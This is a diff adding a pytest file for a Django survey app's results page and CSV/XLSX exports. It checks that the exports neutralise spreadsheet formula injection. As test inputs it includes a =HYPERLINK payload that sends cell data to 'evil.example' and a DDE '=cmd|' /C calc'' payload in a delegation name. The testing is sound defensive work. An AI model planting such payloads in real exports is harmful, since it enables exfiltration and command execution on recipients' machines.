@@ -1,0 +1,162 @@
+import csv
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from delegations.tests.factories import DelegationFactory, OrganisationFactory
+from surveys.exports import neutralise, results_csv, results_xlsx
+from surveys.models import Invitation
+from surveys.selectors import survey_results
+from surveys.services import response_submit
+from surveys.tests.factories import InvitationFactory
+
+pytestmark = pytest.mark.django_db
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def _answer(invitation, questions, **values):
+    ordered = [questions[name] for name in ("theme", "coherence", "which", "scale", "comments")]
+    by_name = {questions[name].pk: value for name, value in values.items()}
+    return response_submit(invitation=invitation, questions=ordered, values=by_name)
+
+
+@pytest.fixture
+def answered(survey, questions):
+    """Ghana (Steering Group, Africa) and Mexico (Friends, Americas) answered; an observer did not."""
+    ghana = Invitation.objects.create(
+        survey=survey, delegation=DelegationFactory(country="GH", name="Ghana", region="africa", steering_group=True)
+    )
+    mexico = Invitation.objects.create(
+        survey=survey,
+        delegation=DelegationFactory(country="MX", name="Mexico", region="americas", friends_of_the_forum=True),
+    )
+    Invitation.objects.create(survey=survey, delegation=OrganisationFactory(name="IOM", friends_of_the_forum=True))
+    agree, changes = questions["theme"].options.all()[:2]
+    _answer(ghana, questions, theme=agree.pk, coherence=True, which="A national commission", scale=4, comments=HOSTILE)
+    _answer(mexico, questions, theme=changes.pk, coherence=False, scale=5, comments="More on climate change")
+    return {"ghana": ghana, "mexico": mexico}
+
+
+def test_response_rates_overall_by_group_region_and_kind(survey, answered):
+    results = survey_results(survey)
+    assert (results.overall.invited, results.overall.responded, results.overall.percent) == (3, 2, 67)
+    assert [(r.label, r.invited, r.responded) for r in results.by_group] == [
+        ("Steering Group", 1, 1),
+        ("Friends of the Forum", 2, 1),
+    ]
+    assert [(r.label, r.invited, r.responded) for r in results.by_region] == [
+        ("Africa", 1, 1),
+        ("Americas", 1, 1),
+        ("Global", 1, 0),
+    ]
+    assert [(r.label, r.invited, r.responded) for r in results.by_kind] == [
+        ("State", 2, 2),
+        ("Observer organisation", 1, 0),
+    ]
+    assert results.respondents == ["Ghana", "Mexico"]
+
+
+def test_counts_mean_and_free_text_per_question(survey, questions, answered):
+    by_question = {result.question.pk: result for result in survey_results(survey).questions}
+    theme = by_question[questions["theme"].pk]
+    assert [(c.label, c.count, c.percent) for c in theme.counts] == [
+        ("Agree", 1, 50),
+        ("Agree with changes", 1, 50),
+        ("Disagree", 0, 0),
+    ]
+    assert [(c.label, c.count) for c in by_question[questions["coherence"].pk].counts] == [("Yes", 1), ("No", 1)]
+    assert by_question[questions["scale"].pk].mean == 4.5
+    assert [(t.text, t.respondent) for t in by_question[questions["comments"].pk].texts] == [
+        (HOSTILE, "Ghana"),
+        ("More on climate change", "Mexico"),
+    ]
+
+
+def test_anonymous_results_show_who_responded_never_what_they_answered(client, chair, survey, questions):
+    survey.anonymous = True
+    survey.save()
+    invitation = Invitation.objects.create(survey=survey, delegation=DelegationFactory(country="GH", name="Ghana"))
+    _answer(invitation, questions, coherence=False, comments="Candid remark")
+
+    results = survey_results(survey)
+    [text] = next(r for r in results.questions if r.question == questions["comments"]).texts
+    assert (results.respondents, text.text, text.respondent) == (["Ghana"], "Candid remark", "")
+
+    client.force_login(chair)
+    page = client.get(reverse("surveys:results", args=[survey.pk])).content.decode()
+    assert "Candid remark" in page
+    assert "— Ghana" not in page
+    header = next(csv.reader(io.StringIO(results_csv(survey))))
+    assert header[0] == "1. Do you agree with the theme?"  # no respondent, delegation or time column
+
+
+def test_results_page_draws_a_chart_for_each_choice_question(client, chair, survey, questions, answered):
+    client.force_login(chair)
+    response = client.get(reverse("surveys:results", args=[survey.pk]))
+    page = response.content.decode()
+    assert page.count('<svg class="survey-chart"') == 3  # single choice, yes/no, scale
+    summary = "Agree: 1 (50%); Agree with changes: 1 (50%); Disagree: 0 (0%)"
+    assert f'<desc id="chart-{questions["theme"].pk}-desc">{summary}</desc>' in page
+    assert "More on climate change" in page
+    assert "<script" not in page.split("<main")[1].split("</main>")[0]
+
+
+@pytest.mark.parametrize("count", [1, 3])
+def test_results_page_query_count_does_not_grow(client, chair, survey, questions, django_assert_num_queries, count):
+    for _ in range(count):
+        _answer(InvitationFactory(survey=survey), questions, coherence=True, which="x", scale=3)
+    client.force_login(chair)
+    # session, user, survey, groups, menu, lock check, invitations, sections, questions, options,
+    # condition options, responses, answers
+    with django_assert_num_queries(13):
+        client.get(reverse("surveys:results", args=[survey.pk]))
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+33 1 23", "'+33 1 23"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        (" =padded", "' =padded"),
+        ("Plain text", "Plain text"),
+        (5, 5),
+    ],
+)
+def test_neutralise_formula_starts(value, expected):
+    assert neutralise(value) == expected
+
+
+def test_csv_export_neutralises_formulas(survey, questions, answered):
+    rows = list(csv.reader(io.StringIO(results_csv(survey))))
+    comments_column = rows[0].index("5. Comments") if "5. Comments" in rows[0] else len(rows[0]) - 1
+    assert rows[0][:3] == ["Respondent", "Delegation", "Submitted at"]
+    assert [row[0] for row in rows[1:]] == ["Ghana", "Mexico"]
+    assert rows[1][comments_column] == "'" + HOSTILE
+    assert rows[1][3:7] == ["Agree", "Yes", "A national commission", "4"]
+
+
+def test_xlsx_export_neutralises_formulas(survey, questions, answered):
+    workbook = load_workbook(io.BytesIO(results_xlsx(survey)))
+    sheet = workbook["Answers"]
+    ghana = [cell for cell in sheet[2]]
+    comments = ghana[-1]
+    assert (comments.value, comments.data_type) == ("'" + HOSTILE, "s")
+    assert [cell.value for cell in ghana[3:7]] == ["Agree", "Yes", "A national commission", 4]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    rates = workbook["Response rate"]
+    assert [cell.value for cell in rates[2]] == ["All invited", 3, 2, 67]
+
+
+def test_a_delegation_named_like_a_formula_is_neutralised_in_the_xlsx(survey, questions):
+    invitation = Invitation.objects.create(survey=survey, delegation=OrganisationFactory(name="=cmd|' /C calc'!A0"))
+    _answer(invitation, questions, coherence=False)
+    workbook = load_workbook(io.BytesIO(results_xlsx(survey)))
+    assert workbook["Answers"]["A2"].value == "'=cmd|' /C calc'!A0"
+    respondents = [row[0].value for row in workbook["Response rate"].iter_rows()]
+    assert respondents[-2:] == ["Responded", "'=cmd|' /C calc'!A0"]
